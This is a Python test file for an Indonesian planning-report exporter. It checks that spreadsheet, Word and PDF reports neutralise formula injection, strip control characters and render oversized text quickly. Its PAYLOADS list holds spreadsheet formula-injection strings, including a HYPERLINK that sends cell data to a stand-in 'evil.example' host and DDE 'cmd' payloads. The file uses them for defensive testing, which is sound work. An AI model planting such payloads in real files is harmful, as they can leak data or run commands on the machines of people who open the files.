"""Text that leaves: whatever a plan holds, every report in every format is safe to open and
renders in bounded time (docs/security.md).

- **Spreadsheet formulas**: a plan whose every text is a formula payload ("=HYPERLINK(…)",
  "=cmd|…", "+…", "-…", "@…", a leading tab or carriage return) exported as every report, and
  as a kabupaten workbook, holds no formula cell: no ``<f>`` in the sheets' XML, no cell openpyxl
  reads as a formula, every text as written (a string cell), the formula-like ones quote-prefixed.
- **Control characters**: a plan holding NUL and every other control character renders every
  report in every format (an .xlsx or .docx cannot hold them: the renderer leaves them out).
- **Rendering time**: a plan whose every text is as long as a plan may hold, and one holding
  100,000-character names (stored before the limits existed), render every report in every
  format in under 5 s each.
"""

from __future__ import annotations

import datetime as dt
import html
import io
import re
import time
import zipfile

import pytest
from openpyxl import load_workbook

from renaksi.core import text as T
from renaksi.core.plan import Indicator, Node, Plan
from renaksi.reports import NUMBER, REPORTS, Signature, renderer
from renaksi.reports import pdf as pdf_renderer
from renaksi.reports import xlsx as xlsx_renderer
from renaksi.reports.data import IndicatorData, Monitoring, PeriodState, keyed_indicators

PERIODS = ["TW1", "TW2", "TW3", "TW4"]
FORMATS = ["xlsx", "docx", "pdf"]

# What an attacker types into a name, a target, a note: each starts the way a formula (or a DDE
# command) starts. The kabupaten workbook of the issue carried 91 such cells.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "#N/A",
    "=",
]
FORMULA_LIKE = ("=", "+", "-", "@", "\t", "\r")


def _payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def _plan(texts, values) -> Plan:
    """A plan of every level, each text from ``texts(i)``, each text target from ``values(i)``."""
    counter = iter(range(10_000))

    def t() -> str:
        return texts(next(counter))

    def indicator() -> Indicator:
        return Indicator(
            t(),
            objective=t(),
            unit=t(),
            annual_target=values(next(counter)),
            targets={p: values(next(counter)) for p in PERIODS},
        )

    def node(level: str, number: str, children=()) -> Node:
        return Node(level, t(), number=number, indicators=[indicator()], children=list(children))

    return Plan(
        unit=t(),
        year=2022,
        periods=list(PERIODS),
        nodes=[
            node(
                "sasaran",
                "1",
                [
                    node(
                        "program",
                        "1",
                        [
                            node(
                                "kegiatan",
                                "1",
                                [node("subkegiatan", "1"), node("subkegiatan", "2")],
                            )
                        ],
                    )
                ],
            )
        ],
    )


def _monitoring(plan: Plan, texts) -> Monitoring:
    counter = iter(range(10_000))
    monitoring = Monitoring(
        periods={
            p: PeriodState(state="returned", verifier=texts(next(counter)), note=texts(9))
            for p in PERIODS
        }
    )
    for key, _node, _indicator in keyed_indicators(plan):
        monitoring.indicators[key] = IndicatorData(
            actuals={p: texts(next(counter)) for p in PERIODS},
            kendala={p: texts(next(counter)) for p in PERIODS},
            faktor_pendukung={p: texts(next(counter)) for p in PERIODS},
            tindak_lanjut={p: texts(next(counter)) for p in PERIODS},
            owner=texts(next(counter)),
        )
    return monitoring


def _signature(texts) -> Signature:
    return Signature(
        place=texts(0), date=dt.date(2022, 12, 30), position=texts(1), name=texts(2), nip=texts(3)
    )


def _build(key: str, plan: Plan, monitoring: Monitoring, signature: Signature):
    kind = REPORTS[key]
    return kind.build(
        plan,
        monitoring if kind.needs_monitoring else None,
        period="TW2" if kind.needs_period else None,
        signature=signature,
    )


def payload_report(key: str):
    plan = _plan(_payload, _payload)
    return _build(key, plan, _monitoring(plan, _payload), _signature(_payload))


def _texts_of(report) -> list[str]:
    """Every text the report prints, as the renderers are given it."""
    out = list(report.title) + list(report.notes)
    for table in report.tables():
        out.append(table.heading)
        for row in table.rows():
            out += [
                c.text
                for c in row
                if c is not None and not (c.kind == NUMBER and c.value is not None)
            ]
    if report.signature is not None:
        out += report.signature.lines()
    return [t for t in out if t]


def _sheet_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def _assert_no_formula(data: bytes, expected: list[str]) -> None:
    assert re.search(r"<(\w+:)?f[ >]", _sheet_xml(data)) is None  # no formula element at all
    cells = _sheet_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # every text as written: the same texts, a string cell each (nothing added, nothing lost)
    assert sorted(texts) == sorted(expected)
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    quoted = {c.value for c in cells if isinstance(c.value, str) and c.quotePrefix}
    assert quoted == {t for t in texts if t.startswith(FORMULA_LIKE)}


# ---------------------------------------------------------------------------------------------
# Spreadsheet formulas


def test_the_payload_plan_carries_every_payload_in_every_kind_of_text():
    texts = set(_texts_of(payload_report("pemantauan")))
    assert set(PAYLOADS) <= texts
    assert sum(1 for t in _texts_of(payload_report("pemantauan")) if t.startswith("=")) >= 15


@pytest.mark.parametrize("key", sorted(REPORTS))
def test_no_report_has_a_formula_cell(key):
    report = payload_report(key)
    _assert_no_formula(xlsx_renderer.render(report), _texts_of(report))


def test_the_kabupaten_workbook_has_no_formula_cell():
    """Units named like formulas (sheet names too), each with a payload plan, and a summary."""
    reports = [(_payload(i), payload_report("rencana-aksi")) for i in range(len(PAYLOADS))]
    summary = payload_report("perjanjian-kinerja")
    data = xlsx_renderer.render_workbook(reports, summary)
    expected = _texts_of(summary) + [t for _name, r in reports for t in _texts_of(r)]
    _assert_no_formula(data, expected)
    names = load_workbook(io.BytesIO(data)).sheetnames
    assert len(names) == len(PAYLOADS) + 1 and all("\t" not in n and "\r" not in n for n in names)


@pytest.mark.parametrize(
    "text, quoted",
    [
        pytest.param("=1+1", True, id="equals"),
        pytest.param("+62 812", True, id="plus"),
        pytest.param("-", True, id="dash"),
        pytest.param("@user", True, id="at"),
        pytest.param("\tx", True, id="tab"),
        pytest.param("\rx", True, id="carriage-return"),
        pytest.param("#DIV/0!", False, id="error-code-is-text"),
        pytest.param("Program = Kegiatan", False, id="equals-inside"),
        pytest.param("25%", False, id="plain"),
    ],
)
def test_put_text_writes_a_string_quoted_when_it_starts_like_a_formula(text, quoted):
    from openpyxl import Workbook

    wb = Workbook()
    xlsx_renderer.put_text(wb.active["A1"], text)
    out = io.BytesIO()
    wb.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", quoted)


@pytest.mark.parametrize("key", sorted(REPORTS))
def test_docx_prints_the_payloads_as_text(key):
    report = payload_report(key)
    flat = " ".join(_document_text("docx", renderer("docx")(report, "A4")).split())
    for t in {t for t in _texts_of(report) if t in PAYLOADS}:
        assert " ".join(t.split()) in flat, t


@pytest.mark.parametrize("key", sorted(REPORTS))
def test_pdf_prints_the_payloads_as_text(key):
    """The HTML the PDF is laid out from holds every payload as escaped text (a PDF's extracted
    text interleaves the lines of narrow columns, so it is checked for one short payload)."""
    report = payload_report(key)
    page = html.unescape(pdf_renderer.to_html(report)).replace("\u200b", "")
    for t in {t for t in _texts_of(report) if t in PAYLOADS}:
        assert t in page, t
    assert "=1+1" in _document_text("pdf", renderer("pdf")(report, "A4"))


def _document_text(fmt: str, data: bytes) -> str:
    if fmt == "docx":
        from docx import Document

        doc = Document(io.BytesIO(data))
        parts = [p.text for p in doc.paragraphs]
        for table in doc.tables:
            parts += [cell.text for row in table.rows for cell in row.cells]
        return "\n".join(parts)
    import pdfplumber

    with pdfplumber.open(io.BytesIO(data)) as pdf:
        return "\n".join(page.extract_text() or "" for page in pdf.pages)


# ---------------------------------------------------------------------------------------------
# Control characters

CONTROLS = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r") + "\x7f\x85\ufffe"


def _controlled(i: int) -> str:
    return f"Kecamatan\x00 Kaligondang {i}{CONTROLS}akhir"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("key", sorted(REPORTS))
def test_control_characters_render_in_every_report_and_format(key, fmt):
    plan = _plan(_controlled, _controlled)
    report = _build(key, plan, _monitoring(plan, _controlled), _signature(_controlled))
    data = renderer(fmt)(report, "A4")
    text = _sheet_text(data) if fmt == "xlsx" else _document_text(fmt, data)
    assert "Kaligondang 3" in text and "akhir" in text
    assert not T.has_controls(text.replace("\r", "").replace("\t", ""))


def _sheet_text(data: bytes) -> str:
    return "\n".join(str(c.value) for c in _sheet_cells(data))


# ---------------------------------------------------------------------------------------------
# Rendering time

LIMIT_S = 5.0


def _long(length: int, unbroken: bool):
    """Texts of ``length`` characters: words ("Penyusunan dokumen …"), or one unbroken run."""

    def text(i: int) -> str:
        if unbroken:
            return "X" * length
        return (f"Penyusunan dokumen {i} " * (length // 10))[:length]

    return text


def _maximal_plan() -> tuple[Plan, Monitoring, Signature]:
    """Every text as long as a plan may hold: names, indicators and result statements 2,000
    characters (every other one a single unbroken run), units and text targets 100, narratives
    and notes 5,000, the signature as long as its fields."""
    names = [_long(T.NAME_LENGTH, unbroken=i % 2 == 0) for i in range(2)]
    plan = _plan(lambda i: names[i % 2](i), _long(T.VALUE_LENGTH, unbroken=False))
    for _node, indicator in plan.indicators():
        indicator.unit = _long(T.UNIT_LENGTH, unbroken=True)(0)
    plan.unit = _long(T.DOCUMENT_UNIT_LENGTH, unbroken=False)(0)
    notes = [_long(T.NOTE_LENGTH, unbroken=i % 2 == 0) for i in range(2)]
    monitoring = _monitoring(plan, lambda i: notes[i % 2](i))
    for data in monitoring.indicators.values():
        data.actuals = {p: _long(T.VALUE_LENGTH, unbroken=True)(0) for p in PERIODS}
    signature = Signature(
        place="K" * 100,
        date=dt.date(2022, 12, 30),
        position="P" * 200,
        name="N" * 200,
        nip="1" * 30,
    )
    return plan, monitoring, signature


def _beyond_plan() -> tuple[Plan, Monitoring, Signature]:
    """Names of 100,000 characters, as a plan stored before the limits may hold."""
    huge = [_long(100_000, unbroken=i % 2 == 0) for i in range(2)]
    plan = _plan(lambda i: huge[i % 2](i), _long(T.VALUE_LENGTH, unbroken=False))
    return plan, _monitoring(plan, lambda i: huge[i % 2](i)), _signature(lambda i: huge[0](i))


@pytest.fixture(scope="module")
def maximal():
    return _maximal_plan()


@pytest.fixture(scope="module")
def beyond():
    return _beyond_plan()


def _timed(fmt: str, report) -> tuple[float, bytes]:
    start = time.perf_counter()
    data = renderer(fmt)(report, "A4")
    return time.perf_counter() - start, data


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("key", sorted(REPORTS))
def test_a_plan_of_maximal_texts_renders_within_5_s(maximal, key, fmt):
    report = _build(key, *maximal)
    seconds, data = _timed(fmt, report)
    assert data and seconds < LIMIT_S, f"{key}.{fmt}: {seconds:.1f} s"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("key", sorted(REPORTS))
def test_a_plan_of_100000_character_names_renders_within_5_s(beyond, key, fmt):
    report = _build(key, *beyond)
    seconds, data = _timed(fmt, report)
    assert data and seconds < LIMIT_S, f"{key}.{fmt}: {seconds:.1f} s"
    if fmt == "xlsx":  # Excel holds 32,767 characters in a cell: a longer text is cut there
        longest = max(len(str(c.value)) for c in _sheet_cells(data))
        assert longest == xlsx_renderer.MAX_CELL_CHARS


@pytest.mark.parametrize(
    "text, printed",
    [
        pytest.param("Program Penunjang", "Program Penunjang", id="short-kept"),
        pytest.param("A" * 29, "A" * 29, id="run-below-30-kept"),
        pytest.param("A" * 30, "A" * 10 + "\u200b" + "A" * 10 + "\u200b" + "A" * 10, id="run-of-30-broken"),
        pytest.param("x " + "B" * 35, "x " + "\u200b".join(["B" * 10] * 3 + ["B" * 5]),
                     id="run-broken-every-10"),
        pytest.param("kata " * 1001, ("kata " * 1001)[:4999].rstrip() + "…", id="cut-at-5000"),
        pytest.param("a\x00b", "ab", id="nul-removed"),
    ],
)  # fmt: skip
def test_pdf_text_is_bounded(text, printed):
    assert pdf_renderer.printable(text) == printed
    assert len(pdf_renderer.printable("Z" * 100_000).replace("\u200b", "")) == 5000


@pytest.mark.parametrize("key", sorted(REPORTS))
def test_a_pdf_row_never_runs_over_a_page(beyond, key):
    """With 100,000-character names and narratives every cell is cut to about 20 lines of its
    column ("…"), so that no row is taller than a page: the PDF has at most a page per row, and
    one for the title and one for the signature. (Uncut, one row ran over dozens of pages.)"""
    import pdfplumber

    report = _build(key, *beyond)
    rows = sum(len(t.body) for t in report.tables())
    with pdfplumber.open(io.BytesIO(renderer("pdf")(report, "A4"))) as pdf:
        pages = len(pdf.pages)
    assert pages <= rows + 2
    page = html.unescape(pdf_renderer.to_html(report)).replace("\u200b", "")
    assert "…" in page and "X" * (pdf_renderer.MAX_TEXT_CHARS + 1) not in page
